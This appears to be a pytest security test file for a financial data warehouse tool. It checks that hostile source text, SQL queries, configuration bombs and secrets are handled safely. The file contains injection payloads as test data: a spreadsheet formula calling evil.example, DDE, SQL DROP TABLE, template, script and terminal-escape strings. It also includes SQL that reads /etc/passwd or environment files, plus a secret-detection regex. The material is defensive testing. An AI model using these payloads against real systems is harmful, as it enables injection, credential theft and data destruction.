"""Faults T35 and T72 to T77: sources that fail, hostile text, hostile queries, hostile web pages, and what must not
leave or be left behind.

T69 (XML bombs) is in tests/unit/test_ingest_payload.py; T70 and T71 (paths, addresses) in tests/faults/test_network.py
and tests/unit/test_ingest_urls.py; the page's own part of T72 in tests/unit/test_report.py.
"""

import ast
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import dagster as dg
import duckdb
import pytest
from conftest import meta, run_aigap

from ingest.archive import Archive
from orchestration.commands.main import main
from orchestration.instance import instance_of
from orchestration.resources import Warehouse
from support import fake_edgar
from support.fake_edgar import FakeEdgar
from support.network_guard import guarded, reached
from support.small_warehouse import INFO, MACROS, publish_small, small_home
from warehouse.readers.changes import diff, markdown, text
from warehouse.readers.read import open_published, query
from warehouse.store.home import Home, read_last_refresh
from warehouse.store.publish import publish

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("ingest", "warehouse", "orchestration")
CURATED = ROOT / "ingest" / "curated"

# --- T72: text from outside is data -----------------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "sql": "'; DROP TABLE marts.citations; --",
    "double quotes": '"; DROP TABLE marts.citations; --',
    "jinja": "{{ env_var('HOME') }}{% for x in range(9) %}x{% endfor %}",
    "markup": "<script>alert(1)</script>",
    "markdown": "[a](http://evil.example) | **b** `c`",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "bidi": "\u202egnp.exe\u2066",
    "newlines": "one\r\ntwo\nthree",
    "format": "%s %n {0} {path!r} $(id) `id`",
    "long": "x" * (1 << 20),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Home:
    """A home in which every text that a source could choose is hostile, published twice."""
    home = small_home(tmp_path_factory.mktemp("hostile"))
    publish_small(home)
    with duckdb.connect(str(home.build)) as connection:
        for name, value in HOSTILE.items():
            connection.execute(
                "insert into marts.citations by name select ? as fact_id, ? as company, 'capex' as metric, 1 as value, "
                "'USD' as unit, ? as concept, ? as dimensions, date '2026-08-27' as filed_on, 'xbrl' as source_kind, "
                "? as source_title, ? as source_url, ? as accession",
                [f"h-{name}", *[value] * 6],
            )
        connection.execute(
            "create temp table h as select list(fact_id) as ids from marts.citations where starts_with(fact_id, 'h-'); "
            "update marts.ai_revenue_gap_components set fact_ids = list_concat(fact_ids, (select ids from h)) "
            "where component_order = 4; "
            "update marts.ai_revenue_gap set fact_ids = list_concat(fact_ids, (select ids from h)), "
            "gap_usd = gap_usd + 1, ai_revenue_usd = ai_revenue_usd - 1"
        )
    warnings = tuple(value for name, value in HOSTILE.items() if name != "long")
    publish(home, INFO._replace(warnings=warnings), macros=MACROS)
    return home


def is_harmless_on_a_terminal(shown: str) -> bool:
    return all(c.isprintable() or c == "\n" for c in shown)


def test_t72_hostile_text_is_published_as_it_is_and_drops_nothing(hostile):
    with open_published(hostile) as connection:
        found = query(connection, "select fact_id, source_title from marts.citations where starts_with(fact_id, 'h-')")
        assert {row[0][2:]: row[1] for row in found.rows} == HOSTILE
        stated = query(connection, "select warnings from meta.build").rows[0][0]
        assert stated == [value for name, value in HOSTILE.items() if name != "long"]


_ASK = "select fact_id, source_title, company from marts.citations where starts_with(fact_id, 'h-') order by fact_id"


def test_t72_a_table_of_hostile_text_is_harmless_on_a_terminal(hostile):
    shown = run_aigap(hostile, "sql", _ASK)
    assert shown.returncode == 0, shown.stderr
    assert is_harmless_on_a_terminal(shown.stdout)
    assert len(shown.stdout.splitlines()) == 2 + len(HOSTILE), "one line a row, whatever is in it"
    assert max(map(len, shown.stdout.splitlines())) < 250, "a cell is cut"


def test_t72_json_of_hostile_text_is_exact(hostile):
    rows = json.loads(run_aigap(hostile, "sql", _ASK, "--format", "json").stdout)
    assert {row["fact_id"][2:]: row["source_title"] for row in rows} == HOSTILE


def test_t72_no_cell_of_a_csv_is_a_formula(hostile):
    command = [sys.executable, "-m", "aigap", "sql", _ASK, "--format", "csv", "--home", str(hostile.root)]
    raw = subprocess.run(command, cwd=ROOT, capture_output=True, check=True).stdout.decode()
    before = csv.field_size_limit(1 << 22)
    try:
        _, *rows = csv.reader(io.StringIO(raw, newline=""))
    finally:
        csv.field_size_limit(before)
    assert len(rows) == len(HOSTILE)
    for fact_id, *cells in rows:
        value = HOSTILE[fact_id[2:]]
        assert set(cells) <= {value, "'" + value}
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("command", [["explain", "2026Q2"], ["show", "--last", "1"], ["doctor"]])
def test_t72_no_command_hands_hostile_text_to_the_terminal(hostile, command):
    done = run_aigap(hostile, *command)
    assert is_harmless_on_a_terminal(done.stdout), command
    assert is_harmless_on_a_terminal(done.stderr), command
    assert "Traceback" not in done.stderr


def test_t72_a_diff_names_hostile_sources_without_obeying_them(hostile):
    found = diff(hostile.generation(1), hostile.generation(2))
    assert found.rows
    for shown in (text(found, ""), markdown(found)):
        assert is_harmless_on_a_terminal(shown)


def test_t72_a_quarter_or_scenario_that_is_sql_is_a_mistake(hostile):
    for command in (["explain", "x'; drop table marts.citations; --"], ["show", "--scenario", "x' or 1=1 --"]):
        done = run_aigap(hostile, *command)
        assert done.returncode == 2, done.stdout
    with open_published(hostile) as connection:
        assert query(connection, "select count(*) from marts.citations").rows[0][0] > len(HOSTILE)


# --- aigap sql: reads, within bounds, nothing else -----------------------------------------------------------


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Home:
    home = small_home(tmp_path_factory.mktemp("sql"))
    publish_small(home)
    return home


_REFUSED = [
    "attach '/etc/passwd' as x", "attach ':memory:' as x", "copy marts.scenarios to '{out}'",
    "copy (select 1) to '{out}'", "export database '{out}'", "import database '/tmp'", "install httpfs",
    "install httpfs from community", "load httpfs", "set enable_external_access = true", "set memory_limit = '100GB'",
    "reset memory_limit", "set variable x = 1", "pragma enable_profiling = 'json'",
    "pragma profiling_output = '{out}'", "pragma memory_limit = '100GB'", "call enable_logging()", "checkpoint",
    "create secret (type s3)", "create table t as select 1", "create macro f() as 1", "drop table marts.scenarios",
    "comment on table marts.scenarios is 'x'", "select getenv('HOME')", "from read_csv('/etc/passwd')",
    "from read_text('/etc/passwd')", "from read_blob('/etc/*')", "from glob('/*')",
    "from read_json('/proc/self/environ')", "from '/etc/passwd'", "from 'x.parquet'",
    "from read_parquet('x.parquet')", "from parquet_metadata('x.parquet')", "from 'https://evil.example/x.parquet'",
    "from sniff_csv('/etc/passwd')", "from read_csv('/dev/stdin')",
    "select * from query('copy (select 1) to ''{out}''')", "from duckdb_secrets()", "from sqlite_scan('x.db', 't')",
    "from postgres_scan('host=127.0.0.1', 'a', 'b')", "from st_read('/etc/passwd')",
    "explain analyze copy (select 1) to '{out}'", "with x as (select 1) insert into marts.scenarios select * from x",
    "select 1; attach 'x'", "from pragma_import_database('x')", "prepare p as select 1", "use memory",
]  # fmt: skip


@pytest.mark.parametrize("sql", _REFUSED)
def test_sql_refuses_everything_but_reading_the_tables(small, tmp_path, capsys, sql):
    out = tmp_path / "out"
    before = {p: p.stat().st_mtime_ns for p in small.root.rglob("*")}
    code = main(["sql", sql.format(out=out), "--home", str(small.root)])
    said = capsys.readouterr()
    assert (code, said.out) == (2, "")
    assert said.err.startswith("aigap: ")
    assert "root:" not in said.err
    assert not out.exists()
    assert {p: p.stat().st_mtime_ns for p in small.root.rglob("*")} == before


def cost_of(home: Home, *arguments: str) -> tuple[int, str, float, int]:
    """Exit code, standard error, seconds and peak memory (bytes) of one `aigap sql`."""
    started = time.monotonic()
    process = subprocess.Popen(
        [sys.executable, "-m", "aigap", "sql", "--home", str(home.root), *arguments],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    said = process.stderr.read()
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    process.stderr.close()
    return process.returncode, said, time.monotonic() - started, usage.ru_maxrss * 1024


@pytest.mark.parametrize(
    "sql",
    [
        "select list(i) from range(1000000000) as r(i)",
        "select repeat('x', 10000000) from range(10000)",
        "select range(100000000)",
        "select md5(repeat('x', 4000000000))",
        "select lpad('x', 2000000000, 'y')",
        "select levenshtein(repeat('ab', 100000), repeat('ba', 100000))",
        "with recursive t as (select 1 as i union all select i + 1 from t) select count(*) from t",
        "select count(*) from range(10000000) a(i), range(10000000) b(j) where hash(i * j) = 7",
    ],
)
def test_sql_ends_within_bounds_of_memory_and_time_whatever_it_asks(small, sql):
    code, said, seconds, peak = cost_of(small, "--timeout", "1", sql)
    assert code == 2, said
    assert "Traceback" not in said
    # A process of its own, its start included; the grace is five seconds.
    assert seconds < 15
    assert peak < 2.5e9


def test_sql_rows_are_bounded(small):
    done = run_aigap(small, "sql", "from range(1000000000)", "--format", "csv")
    assert done.returncode == 0
    assert len(done.stdout.splitlines()) == 10_001
    assert "only the first 10,000 rows" in done.stderr


# --- T35, T72, T75, T76: one refresh that asks, of sources that fail, err and attack; one that may not -------------

SECRETS = {
    "SEC_USER_AGENT": "Zaphod Quillfeather zaphod.quillfeather@example.org",
    "AIGAP_ALERT_WEBHOOK": "http://127.0.0.1:9/services/T0/B0/wh-secret-token",
}
TRACES = ("quillfeather", "wh-secret-token")

_LIVE = """
import sys
from pathlib import Path
from orchestration import run
from orchestration.resources import Edgar, Inputs
from warehouse.store.home import Home
say = lambda message, done=None, total=None: print(message)
edgar = Edgar(is_live=True, data_host=sys.argv[2], www_host=sys.argv[3])
run.refresh(Home(Path(sys.argv[1])), offline=False, edgar=edgar, inputs=Inputs(curated_dir=sys.argv[4]), progress=say)
"""


TITLE = (
    """ {{ env_var('HOME') }} '; DROP TABLE marts.citations; -- =HYPERLINK("http://evil.example") <script>x</script>"""
)


class Asked(NamedTuple):
    """A home after a refresh that asked a local EDGAR, what it said, and what it met.

    :ivar agents: User-Agent headers that the EDGAR saw; :ivar port: its own.
    :ivar reached: what the refresh's processes tried to connect to.
    :ivar bad_line: of funding_rounds.csv.
    """

    home: Home
    done: subprocess.CompletedProcess[str]
    agents: set[str]
    port: str
    reached: list[str]
    bad_line: int


def curated_with_faults(to: Path) -> int:
    """The shipped figures with hostile titles and one row that is no figure; returns the line of that one."""
    shutil.copytree(CURATED, to)
    file = to / "ai_revenue.csv"
    with file.open(newline="", encoding="utf-8") as lines:
        rows = list(csv.DictReader(lines))
    for row in rows:
        if "file id" not in row["source_title"]:
            row["source_title"] += TITLE
            row["note"] = (row["note"] + TITLE).strip()
    with file.open("w", newline="", encoding="utf-8") as lines:
        writer = csv.DictWriter(lines, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    file = to / "funding_rounds.csv"
    with file.open(newline="", encoding="utf-8") as lines:
        row = list(csv.reader(lines))[1]
    with file.open("a", newline="", encoding="utf-8") as lines:
        csv.writer(lines).writerow(["in billions" if cell == row[3] else cell for cell in row])
    return len(file.read_text("utf-8").splitlines())


def archive_an_error_page(home: Home) -> None:
    """What an earlier version may have taken for a filing."""
    Archive(home.archive).put(
        b"<!DOCTYPE html><html><head><title>SEC.gov | Request Rate Threshold Exceeded</title></head>"
        b"<body>Undeclared Automated Tool</body></html>",
        "https://www.sec.gov/Archives/edgar/data/1045810/000104581026000099/nvda-20260726_htm.xml",
        kind="xbrl_instance",
        retrieved_at=datetime(2026, 8, 27, tzinfo=UTC),
        cik="0001045810",
        accession="0001045810-26-000099",
        form="10-Q",
        filed_on="2026-08-26",
    )


@pytest.fixture(scope="module")
def asked(refreshed, tmp_path_factory) -> Asked:
    tmp_path = tmp_path_factory.mktemp("asked")
    home, curated = Home(tmp_path / "home"), tmp_path / "curated"
    bad_line = curated_with_faults(curated)
    shutil.copytree(refreshed.home.root, home.root, symlinks=True)
    archive_an_error_page(home)
    with FakeEdgar() as edgar:  # knows no company: every list is a 404, if not worse
        edgar.fault("submissions", fake_edgar.status(500, b"no"), times=2)
        done = subprocess.run(
            [sys.executable, "-c", _LIVE, str(home.root), edgar.hosts.data, edgar.hosts.www, str(curated)],
            cwd=ROOT, env={**os.environ, **SECRETS, **guarded(tmp_path)}, capture_output=True, text=True, timeout=600,
            check=False,
        )  # fmt: skip
        agents = {seen.headers.get("User-Agent") for seen in edgar.log}
        port = edgar.url.rpartition(":")[2]
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return Asked(home, done, agents, port, reached(tmp_path), bad_line)


def _marts(home: Home) -> dict[str, list[tuple[str, ...]]]:
    """Table -> rows as text, in order; without what the hostile titles added."""

    def clean(cell: object) -> str:
        return "" if cell is None else str(cell).replace(TITLE, "").replace(TITLE.strip(), "")

    with open_published(home) as connection:
        names = query(connection, "select table_name from duckdb_tables() where schema_name = 'marts'").rows
        return {
            name: sorted(tuple(map(clean, row)) for row in query(connection, f"from marts.{name}").rows)
            for (name,) in names
        }


def test_t35_what_is_refused_is_said_and_the_rest_goes_on(asked, refreshed):
    """A refused row, an unreadable payload, an EDGAR that fails: the good rows are all there."""
    said, published = asked.done.stdout, meta(asked.home)
    assert "fetch: warning: not everything could be fetched" in said
    assert f"funding_rounds.csv, line {asked.bad_line}" in said
    assert "raw.payloads: nothing_quarantined" in said
    warnings = [warning.split(" ")[1] for warning in published["warnings"] if warning.startswith("raw.")]
    assert warnings == ["nothing_quarantined", "no_refused_rows"]
    marts, clean = _marts(asked.home), _marts(refreshed.home)
    assert {row[0] for row in marts.pop("review")} == {"0001045810-26-000099"}
    assert clean.pop("review") == []
    assert marts == clean
    with instance_of(asked.home) as instance:
        event = instance.get_latest_materialization_event(dg.AssetKey(["sources", "curated"]))
        assert event.asset_materialization.metadata["refused"].value == 1
        key = dg.AssetCheckKey(dg.AssetKey(["sources", "archive"]), "edgar_answered")
        record = instance.event_log_storage.get_latest_asset_check_execution_by_key([key])[key]
        evaluation = record.event.asset_check_evaluation
        assert (evaluation.passed, evaluation.severity) == (False, dg.AssetCheckSeverity.WARN)


def test_t75_no_secret_is_left_in_runs_logs_or_published_numbers(asked):
    home = asked.home
    assert asked.agents == {SECRETS["SEC_USER_AGENT"]}, "it was in use"
    said = (asked.done.stdout + asked.done.stderr).lower()
    assert not any(trace in said for trace in TRACES)
    files = [path for path in home.root.rglob("*") if path.is_file()]
    assert any(path.suffix == ".db" for path in files)
    left = [(str(path), trace) for path in files for trace in TRACES if trace.encode() in path.read_bytes().lower()]
    assert left == []
    # DuckDB packs text, so its files are asked rather than searched.
    for path in (home.build, home.live()):
        with duckdb.connect(str(path), read_only=True) as connection:
            tables = connection.execute(
                "select schema_name, table_name from duckdb_tables() where not internal"
            ).fetchall()
            assert tables
            for schema, table in tables:
                like = " or ".join(f"t::varchar ilike '%{trace}%'" for trace in TRACES)
                assert connection.execute(f'select * from "{schema}"."{table}" as t where {like}').fetchall() == []


def test_t76_asking_reaches_edgar_alone(asked):
    assert asked.reached
    edgar = re.compile(rf"(connect|getaddrinfo) .*127\.0\.0\.1.*({asked.port}.*)?")
    assert [line for line in asked.reached if not edgar.fullmatch(line)] == []


def test_t72_hostile_titles_go_through_dbt_as_data(asked):
    with open_published(asked.home) as connection:
        titles = query(connection, "select source_title from marts.citations where source_title like '%{{%'").rows
        assert titles
        assert all(title.endswith(TITLE) for (title,) in titles)
        quarter = query(
            connection, "select max(calendar_quarter) from marts.ai_revenue_gap where scenario = 'measured'"
        ).rows[0][0]
    shown = run_aigap(asked.home, "explain", quarter, "--scenario", "measured")
    assert shown.returncode == 0
    assert os.environ.get("HOME", "/root") not in shown.stdout


def test_t76_an_offline_refresh_from_nothing_reaches_nothing(refreshed):
    """The session's one refresh was cut off (tests/conftest.py)."""
    assert refreshed.reached == []
    assert refreshed.home.live().is_file()


# --- T77: configuration that is a bomb ------------------------------------------------------------------------


@pytest.mark.parametrize("bomb", ["[" * 200_000, '{"a":' * 200_000, "null", "1e999", '"' + "x" * (1 << 20) + '"'])
def test_t77_a_note_that_is_a_bomb_counts_as_unreadable(tmp_path, bomb):
    home = Home(tmp_path)
    home.last_refresh.write_text(bomb)
    assert read_last_refresh(home) is None
    (tmp_path / "dbt").mkdir()
    (tmp_path / "dbt" / "build.json").write_text(bomb)
    assert Warehouse(root=str(tmp_path)).loaded is None
    sidecar = home.archive / "ab" / f"{'ab' * 32}.{'0' * 16}.json"
    sidecar.parent.mkdir(parents=True)
    sidecar.write_text(bomb)
    assert list(Archive(home.archive).entries()) == []


def test_t77_nothing_here_reads_yaml_or_runs_what_it_reads():
    forbidden_modules = {"yaml", "pickle", "marshal", "shelve", "dill"}
    forbidden_calls = {"eval", "exec", "compile", "__import__"}
    found = []
    for path in (p for package in PACKAGES for p in (ROOT / package).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                found += [(path.name, name) for name in names if name.split(".")[0] in forbidden_modules]
            elif isinstance(node, ast.Call):
                name = node.func.id if isinstance(node.func, ast.Name) else ""
                shell = any(k.arg == "shell" and getattr(k.value, "value", True) for k in node.keywords)
                if name in forbidden_calls or shell:
                    found.append((path.name, name or "shell=True"))
    assert found == []


# --- what is in version control ---------------------------------------------------------------------------------


def test_no_secret_is_in_version_control():
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=False)
    if listed.returncode != 0:
        pytest.skip("not a git checkout")
    secret = re.compile(
        rb"-----BEGIN [A-Z ]*PRIVATE KEY|\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{30,}"
        rb"|\bxox[abprs]-[0-9A-Za-z-]{10,}|hooks\.slack\.com/services/T[A-Z0-9]{6,}|\bpypi-[A-Za-z0-9_-]{40,}"
    )
    names = [name for name in listed.stdout.split("\0") if name and (ROOT / name).is_file()]
    assert len(names) > 100
    assert [name for name in names if secret.search((ROOT / name).read_bytes())] == []
    assert not {".env", "data"} & {name.split("/")[0] for name in names}
